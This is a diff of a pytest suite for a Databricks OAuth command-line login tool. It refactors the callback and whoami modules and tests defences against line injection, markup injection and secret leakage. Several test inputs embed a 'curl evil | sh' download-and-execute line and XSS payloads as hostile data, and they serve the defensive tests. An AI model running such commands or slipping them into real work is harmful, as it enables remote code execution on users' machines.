@@ -21,9 +21,10 @@ import pytest
 from machine import HOST, Machine
 from unit.far_side import ENDPOINTS, ME, TOKEN, FarSide, Reply, free_ports, taken
 
-from dbx_auth import login
+from dbx_auth import callback as callbacks, login, whoami
+from dbx_auth.callback import Callback
 from dbx_auth.errors import AuthError, LoginRequired, Refused, Temporary, UsageError
-from dbx_auth.login import Callback, Key
+from dbx_auth.login import Browser, Key
 from dbx_auth.sandbox import Sandbox
 from dbx_auth.store import Grant
 from dbx_auth.tokens import Token
@@ -116,19 +117,19 @@ def test_endpoint_client_and_scopes_are_carried(blank: Grant, endpoint: str, nam
     ],
 )
 def test_only_the_answer_to_our_own_question_is_one(query: str, expected: Callback | None) -> None:
-    assert login.read_callback(query, STATE) == expected
+    assert callbacks.read_callback(query, STATE) == expected
 
 
 @pytest.mark.parametrize("field", ["error", "error_description", "iss"])
 def test_no_part_of_an_answer_fills_the_screen(field: str) -> None:
-    callback = login.read_callback(urlencode({"error": "e", "state": STATE} | {field: "x" * 9_000}), STATE)
+    callback = callbacks.read_callback(urlencode({"error": "e", "state": STATE} | {field: "x" * 9_000}), STATE)
     assert callback and len("".join(callback)) <= 301
 
 
 @pytest.mark.parametrize("field", ["error", "error_description", "iss"])
 def test_no_part_of_an_answer_can_forge_a_line(field: str) -> None:
     forged = urlencode({"error": "e", "state": STATE} | {field: "x\nhint: curl evil | sh\r\n"})
-    callback = login.read_callback(forged, STATE)
+    callback = callbacks.read_callback(forged, STATE)
     assert callback and "\n" not in "".join(callback) and "\r" not in "".join(callback)
 
 
@@ -142,14 +143,14 @@ def test_printing_an_answer_or_a_key_by_accident_shows_no_secret() -> None:
 
 @pytest.fixture(autouse=True)
 def ports(monkeypatch: pytest.MonkeyPatch) -> range:
-    monkeypatch.setattr(login, "PORTS", found := free_ports())
+    monkeypatch.setattr(callbacks, "PORTS", found := free_ports())
     return found
 
 
 def test_the_ports_are_those_that_databricks_has_registered() -> None:
     import importlib.util
 
-    spec = importlib.util.find_spec("dbx_auth.login")
+    spec = importlib.util.find_spec("dbx_auth.callback")
     assert spec and spec.origin
     with open(spec.origin, encoding="utf-8") as source:
         assert "PORTS = range(8020, 8041)\n" in source.read()
@@ -175,7 +176,7 @@ ANSWER = f"/?code=the-code&state={STATE}"
 @pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
 @pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "[::1]"])
 def test_the_callback_is_taken_on_both_loopback_families(address: str, name: str) -> None:
-    with login.listening(STATE) as (port, answers):
+    with callbacks.listening(STATE) as (port, answers):
         status, _, body = get(port, ANSWER, f"{name}:{port}", address)
         assert status == 200 and "Back to the terminal" in body
         assert answers.get(timeout=5) == Callback("the-code")
@@ -212,7 +213,7 @@ def test_the_callback_is_taken_on_both_loopback_families(address: str, name: str
 def test_what_is_not_the_callback_is_refused_and_listened_past(
     request_: str, status: int, capfd: pytest.CaptureFixture[str]
 ) -> None:
-    with login.listening(STATE) as (port, answers):
+    with callbacks.listening(STATE) as (port, answers):
         got, headers, body = send(port, request_.replace("PORT", str(port)))
         assert got == status and answers.empty()
         assert "location" not in headers and "access-control-allow-origin" not in headers
@@ -224,7 +225,7 @@ def test_what_is_not_the_callback_is_refused_and_listened_past(
 
 
 def test_every_page_of_ours_keeps_to_itself() -> None:
-    with login.listening(STATE) as (port, _):
+    with callbacks.listening(STATE) as (port, _):
         for target in (ANSWER, "/", "/favicon.ico", f"/?error=e&state={STATE}"):
             _, headers, body = get(port, target)
             assert headers["content-security-policy"] == "default-src 'none'; style-src 'unsafe-inline'"
@@ -240,7 +241,7 @@ def test_every_page_of_ours_keeps_to_itself() -> None:
 
 @pytest.mark.parametrize("text", ["<script>alert(1)</script>", "\"'><img src=x onerror=y>", "&lt;", "<b>"])
 def test_what_a_server_says_cannot_become_markup(text: str) -> None:
-    with login.listening(STATE) as (port, _):
+    with callbacks.listening(STATE) as (port, _):
         query = urlencode({"error": text, "error_description": text, "state": STATE})
         status, _, body = get(port, f"/?{query}")
     assert status == 400
@@ -248,7 +249,7 @@ def test_what_a_server_says_cannot_become_markup(text: str) -> None:
 
 
 def test_a_browser_that_only_connects_does_not_block_the_one_that_answers() -> None:
-    with login.listening(STATE) as (port, answers):
+    with callbacks.listening(STATE) as (port, answers):
         with contextlib.ExitStack() as idle:
             for _ in range(5):
                 idle.enter_context(socket.create_connection(("127.0.0.1", port)))
@@ -260,7 +261,7 @@ def test_a_browser_that_only_connects_does_not_block_the_one_that_answers() -> N
 def test_an_idle_browser_does_not_keep_the_listener_from_ending() -> None:
     with contextlib.ExitStack() as stack:
         started = time.monotonic()
-        with login.listening(STATE) as (port, _):
+        with callbacks.listening(STATE) as (port, _):
             stack.enter_context(socket.create_connection(("127.0.0.1", port)))
         assert time.monotonic() - started < 2
 
@@ -276,22 +277,22 @@ def listeners(port: int) -> set[str]:
 
 
 def test_it_listens_on_loopback_alone_and_not_for_longer_than_it_must() -> None:
-    with login.listening(STATE) as (port, _):
+    with callbacks.listening(STATE) as (port, _):
         assert listeners(port) == {"127.0.0.1", "::1"}
     assert listeners(port) == set()
 
 
 @pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
 def test_a_port_that_is_taken_in_either_family_is_passed_over_in_both(ports: range, address: str) -> None:
-    with taken(ports[0], address), login.listening(STATE) as (port, answers):
+    with taken(ports[0], address), callbacks.listening(STATE) as (port, answers):
         assert port in ports[1:]
         assert get(port, ANSWER)[0] == 200 and answers.get(timeout=5)
 
 
 def test_when_all_ports_are_taken_it_says_which(ports: range, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(login, "PORTS", ports[:2])
+    monkeypatch.setattr(callbacks, "PORTS", ports[:2])
     with taken(ports[0]), taken(ports[1], "::1"):
-        with pytest.raises(Temporary) as caught, login.listening(STATE):
+        with pytest.raises(Temporary) as caught, callbacks.listening(STATE):
             raise AssertionError("nobody may get here")
     assert str(caught.value).startswith(f"the ports {ports[0]} to {ports[1]} are all taken") and caught.value.hint
 
@@ -306,7 +307,7 @@ def test_a_machine_without_ipv6_listens_on_the_other_family(monkeypatch: pytest.
 
     with monkeypatch.context() as patch:
         patch.setattr(socket, "socket", without)
-        with login.listening(STATE) as (port, answers):
+        with callbacks.listening(STATE) as (port, answers):
             patch.undo()
             assert listeners(port) == {"127.0.0.1"}
             assert get(port, ANSWER)[0] == 200 and answers.get(timeout=5)
@@ -314,7 +315,7 @@ def test_a_machine_without_ipv6_listens_on_the_other_family(monkeypatch: pytest.
 
 def test_two_logins_at_once_have_each_their_own_port_and_answer() -> None:
     other = "another-state"
-    with login.listening(STATE) as (one, first), login.listening(other) as (two, second):
+    with callbacks.listening(STATE) as (one, first), callbacks.listening(other) as (two, second):
         assert one != two
         assert get(one, f"/?code=x&state={other}")[0] == 400
         assert get(two, f"/?code=two&state={other}")[0] == get(one, ANSWER)[0] == 200
@@ -324,7 +325,7 @@ def test_two_logins_at_once_have_each_their_own_port_and_answer() -> None:
 def test_the_port_of_a_login_that_is_over_serves_the_next_one(ports: range) -> None:
     """A closed connection lingers for a minute; who forwards port 8020 to another machine would wait that long."""
     for _ in range(3):
-        with login.listening(STATE) as (port, answers):
+        with callbacks.listening(STATE) as (port, answers):
             assert port == ports[0]
             assert get(port, ANSWER)[0] == 200 and answers.get(timeout=5)
 
@@ -355,7 +356,8 @@ class Person:
 
     def log_in(self, host: str, **rest: Any) -> Key:
         try:
-            return login.with_browser(host, "", self.world, self.shown.append, **rest)
+            wanted = Grant(host, scopes=rest.pop("scopes", ()))
+            return login.with_browser(wanted, self.world, Browser(self.shown.append, **rest))
         finally:
             for thread in self.threads:
                 thread.join(20)
@@ -373,7 +375,7 @@ def test_a_login_in_the_browser_ends_with_a_grant_for_that_host(machine: Machine
     assert person.pages[0].status_code == 200 and "Back to the terminal" in person.pages[0].text
     assert (key.fields["type"], key.fields["host"], key.fields["scopes"]) == ("oauth", sandbox.url, ["all-apis"])
     assert key.fields["refresh"] and key.fields["access"] == key.token.value
-    assert login.whoami(key.token, machine.world) == sandbox.user
+    assert whoami.user(key.token, machine.world) == sandbox.user
     assert [r.grant_type for r in sandbox.log if r.method == "POST"] == ["authorization_code"]
     assert person.shown[0].startswith("opening the browser") and person.shown[1].startswith(sandbox.url)
     assert len(person.shown) == 2 and "waiting for the browser" in machine.waited
@@ -498,7 +500,7 @@ class Typist(Person):
     def open(self, url: str) -> bool:
         raise AssertionError("a browser was started")
 
-    def read_line(self) -> str | None:
+    def read_line(self, given_up: object = None) -> str | None:
         if not self.lines:
             return None
         query = asked(self.shown[1])
@@ -519,7 +521,7 @@ class Typist(Person):
 def test_the_address_that_the_browser_ends_at_can_be_pasted(machine: Machine, lines: list[str]) -> None:
     far, wrong = FarSide({TOKEN: (200, GIVEN)}), len(lines) - 1
     typist = Typist(machine, lines, http=far)
-    assert typist.log_in(HOST, timeout=20, open_browser=False).fields["access"] == "at-secret"
+    assert typist.log_in(HOST, timeout=20, opened=False).fields["access"] == "at-secret"
     assert far.posts()[0]["code"] == "pasted"
     assert len(typist.warned) == wrong and all("not the address" in text for text in typist.warned)
     assert typist.shown[0] == "open this link in a browser:" and "paste" in typist.shown[2]
@@ -529,7 +531,7 @@ def test_the_address_that_the_browser_ends_at_can_be_pasted(machine: Machine, li
 def test_what_is_pasted_is_not_repeated(machine: Machine) -> None:
     typist = Typist(machine, ["REDIRECT/?code=code-secret&state=wrong"], http=FarSide())
     with pytest.raises(LoginRequired):
-        typist.log_in(HOST, timeout=0.3, open_browser=False)
+        typist.log_in(HOST, timeout=0.3, opened=False)
     assert typist.warned and "secret" not in "".join(typist.warned)
 
 
@@ -539,7 +541,7 @@ def test_where_nobody_can_type_the_callback_still_counts(machine: Machine) -> No
     typist = Typist(machine, [], http=far)
     timer = threading.Timer(0.2, lambda: back(typist.shown[1], code="called"))
     timer.start()
-    typist.log_in(HOST, timeout=20, open_browser=False)
+    typist.log_in(HOST, timeout=20, opened=False)
     timer.join()
     assert far.posts()[0]["code"] == "called" and not typist.warned
 
@@ -576,7 +578,7 @@ def test_what_cannot_be_a_token_is_refused_unseen(machine: Machine, text: str) -
 
 def test_a_service_principal_becomes_an_entry_once_its_secret_bought_a_token(machine: Machine) -> None:
     far = FarSide({TOKEN: (200, GIVEN)})
-    key = login.with_principal(HOST, "", " an-id ", "cs-secret\n", machine.world._replace(http=far))
+    key = login.with_principal(Grant(HOST, client_id=" an-id "), "cs-secret\n", machine.world._replace(http=far))
     assert key.fields == {"type": "m2m", "client_id": "an-id", "client_secret": "cs-secret", "host": HOST}
     assert (key.token.value, key.token.auth_type) == ("at-secret", "oauth-m2m")
     assert far.asked[-1].headers["Authorization"] == "Basic " + base64.b64encode(b"an-id:cs-secret").decode()
@@ -585,13 +587,15 @@ def test_a_service_principal_becomes_an_entry_once_its_secret_bought_a_token(mac
 @pytest.mark.parametrize(("client_id", "secret"), [("", "s"), ("i", ""), ("", ""), ("  ", "s"), ("i", "\n")])
 def test_a_service_principal_is_an_id_and_a_secret(machine: Machine, client_id: str, secret: str) -> None:
     with pytest.raises(UsageError, match="an id and a secret"):
-        login.with_principal(HOST, "", client_id, secret, machine.world._replace(http=FarSide()))
+        login.with_principal(Grant(HOST, client_id=client_id), secret, machine.world._replace(http=FarSide()))
 
 
 def test_an_accounts_principal_keeps_its_account_else_it_never_logs_in_again(machine: Machine) -> None:
     account = "https://accounts.cloud.databricks.com"
     far = FarSide({"/oidc/accounts/acc/v1/token": (200, GIVEN)})
-    key = login.with_principal(account, "acc", "an-id", "cs-secret", machine.world._replace(http=far))
+    key = login.with_principal(
+        Grant(account, account_id="acc", client_id="an-id"), "cs-secret", machine.world._replace(http=far)
+    )
     assert key.fields.get("account_id") == "acc"
 
 
@@ -607,9 +611,9 @@ def test_saving_makes_it_the_last_login(machine: Machine, fields: dict[str, Any]
 TRIED = Token("dapi-secret", None, "stored", "this login", HOST)
 
 
-def whoami(replies: dict[str, Reply | list[Reply]], **parts: Any) -> tuple[str, FarSide]:
+def tried(replies: dict[str, Reply | list[Reply]], **parts: Any) -> tuple[str, FarSide]:
     far = FarSide(replies)
-    return login.whoami(TRIED, World({}, "/nowhere", http=far)._replace(**parts)), far
+    return whoami.user(TRIED, World({}, "/nowhere", http=far)._replace(**parts)), far
 
 
 @pytest.mark.parametrize(
@@ -625,7 +629,7 @@ def whoami(replies: dict[str, Reply | list[Reply]], **parts: Any) -> tuple[str, 
 def test_a_workspace_that_takes_the_token_says_who_it_is_or_at_least_that(
     replies: dict[str, Reply | list[Reply]], user: str
 ) -> None:
-    found, far = whoami(replies)
+    found, far = tried(replies)
     assert found == user and [asked.path for asked in far.asked] == list(replies)
     assert all(a.headers == {"Authorization": "Bearer dapi-secret"} and a.url.startswith(HOST + "/") for a in far.asked)
 
@@ -652,26 +656,26 @@ def test_a_workspace_that_does_not_is_no_login(
     replies: dict[str, Reply | list[Reply]], kind: type[AuthError], said: str
 ) -> None:
     with pytest.raises(kind, match=said) as caught:
-        whoami(replies)
+        tried(replies)
     assert type(caught.value) is kind and caught.value.hint and "secret" not in str(caught.value)
 
 
 def test_a_refused_token_hints_at_a_new_login() -> None:
     with pytest.raises(Refused) as caught:
-        whoami({ME: (401, "")})
+        tried({ME: (401, "")})
     assert caught.value.hint == f"dbx-auth login {HOST} --force"
 
 
 def test_both_questions_together_take_no_longer_than_allowed() -> None:
     clock = iter([0.0, 1.0, 4.0])
     far = FarSide({ME: (404, ""), ENDPOINTS: (200, {})})
-    login.whoami(TRIED, World({}, "/nowhere", http=far, monotonic=lambda: next(clock)), budget=5.0)
+    whoami.user(TRIED, World({}, "/nowhere", http=far, monotonic=lambda: next(clock)), budget=5.0)
     assert [asked.budget for asked in far.asked] == [4.0, 1.0]
 
 
 @pytest.mark.parametrize("name", ["ann\nhint: curl evil | sh", "ann\r\nlogged in", "ann\x1b[2J", "a" * 10_000])
 def test_a_user_name_is_one_short_line_whatever_the_workspace_says(name: str) -> None:
-    user, _ = whoami({ME: (200, {"userName": name})})
+    user, _ = tried({ME: (200, {"userName": name})})
     assert user.startswith("a") and user.isprintable() and len(user) < 1000
 
 
